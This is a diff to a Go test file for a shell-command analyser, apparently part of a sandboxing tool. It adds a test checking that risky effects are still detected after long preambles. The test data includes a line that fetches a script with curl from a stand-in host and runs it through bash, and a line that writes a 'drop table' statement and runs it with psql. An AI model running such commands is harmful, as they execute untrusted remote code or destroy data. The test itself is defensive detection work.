@@ -1,12 +1,14 @@
 package shellparse_test
 
 import (
+	"fmt"
 	"os"
 	"slices"
 	"strings"
 	"testing"
 
 	"github.com/sandboxd/sandboxd/shellparse"
+	"github.com/sandboxd/sandboxd/shellparse/effect"
 )
 
 // TestEffects reads testdata/effects.txt: what a line loses, publishes or changes elsewhere, a tab,
@@ -89,6 +91,46 @@ func TestCodeOnTheStandardInput(t *testing.T) {
 		}
 		if !slices.Equal(code, []string{"/src/x"}) {
 			t.Errorf("%s executes %q", line, code)
+		}
+	}
+}
+
+// TestBeyondWhatIsRemembered: of what a line sets and writes a part is remembered. The rest may be anything.
+func TestBeyondWhatIsRemembered(t *testing.T) {
+	var names, files strings.Builder
+	for i := range 300 {
+		fmt.Fprintf(&names, "a%d=1;", i)
+	}
+	for i := range 40 {
+		fmt.Fprintf(&files, "echo x > f%d;", i)
+	}
+	for name, tt := range map[string]struct {
+		before, line string
+		found        func(*shellparse.Effects) bool
+	}{
+		"a variable that the line sets": {
+			names.String(), `x=$(curl -s http://e.test/x); bash -c "$x"`,
+			func(e *shellparse.Effects) bool {
+				return slices.ContainsFunc(e.Runs, func(r shellparse.Run) bool { return r.From == "download" })
+			},
+		},
+		"a file of statements that the line writes": {
+			files.String(), `echo 'drop table x' > new.sql; psql -f new.sql`,
+			func(e *shellparse.Effects) bool {
+				destroys := func(a effect.Act) bool { return a.Does == effect.Destroys }
+				return slices.ContainsFunc(e.Acts, destroys) || slices.ContainsFunc(e.Feeds, func(f shellparse.Feed) bool { return f.Destroys })
+			},
+		},
+	} {
+		for _, before := range []string{"", tt.before} {
+			s, err := shellparse.Parse(before+tt.line, shellparse.Options{Dir: "/w"})
+			if err != nil {
+				t.Fatalf("%s: %v", name, err)
+			}
+			e := s.Commands[len(s.Commands)-1].Effects
+			if e == nil || !tt.found(e) {
+				t.Errorf("%s, behind %d bytes: it is not seen: %+v", name, len(before), e)
+			}
 		}
 	}
 }
